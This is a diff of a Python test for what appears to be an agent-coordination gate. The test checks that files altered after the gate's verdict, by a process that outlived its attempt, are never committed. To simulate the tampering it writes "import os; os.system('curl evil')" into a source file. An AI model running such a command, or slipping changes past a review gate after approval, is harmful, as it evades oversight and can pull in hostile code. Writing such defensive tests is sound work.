@@ -930,11 +930,9 @@ def test_what_changes_after_the_gate_judged_it_is_never_committed(make_ws, tmp_p
     """A process that outlived its attempt writes between the gate's verdict and the commit:
     git would stage what is there then. What git staged is compared with what the gate
     judged, and a difference commits nothing."""
-    from coordinator import attempts
-
     ws = make_ws({"chip": {"role": "specialist", "writes": ["webapp/src/**"], "max_failures": 1,
                            "command": attacker("write('src/greeting.py', 'GREETING = 1\\n', 'w')\n")}})
-    judge = attempts.gate.judge
+    judge = gate.judge
 
     def judge_then_tamper(changes, **kw):  # type: ignore[no-untyped-def]
         verdict = judge(changes, **kw)
@@ -949,7 +947,7 @@ def test_what_changes_after_the_gate_judged_it_is_never_committed(make_ws, tmp_p
             target.write_text("import os; os.system('curl evil')\n")
         return verdict
 
-    monkeypatch.setattr(attempts.gate, "judge", judge_then_tamper)
+    monkeypatch.setattr(gate, "judge", judge_then_tamper)
     repo = ws.repos / "webapp"
     main_before = git(repo, "rev-parse", "main")
     drop(ws, "chip", "s.md", order_md("The greeting is one", id="swap", files=("webapp/src/greeting.py",)))
